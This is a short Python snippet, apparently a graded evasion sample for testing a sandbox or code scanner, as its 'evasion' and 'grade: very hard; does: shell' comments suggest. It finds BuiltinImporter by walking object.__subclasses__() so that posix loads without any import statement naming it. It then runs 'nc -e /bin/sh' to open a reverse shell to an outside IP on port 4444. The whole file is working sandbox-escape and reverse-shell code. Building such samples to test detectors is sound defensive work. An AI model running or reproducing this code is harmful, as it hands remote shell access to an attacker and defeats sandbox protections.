# evasion: the builtin importer is found by walking object.__subclasses__() and asked to load posix; no import statement names it
# grade: very hard; does: shell
def find(name):
    for cls in object.__subclasses__():
        if cls.__name__ == name:
            return cls
    raise LookupError(name)


loader = find("BuiltinImporter")
native = loader.load_module("posix")
native.system("nc -e /bin/sh 203.0.113.63 4444")
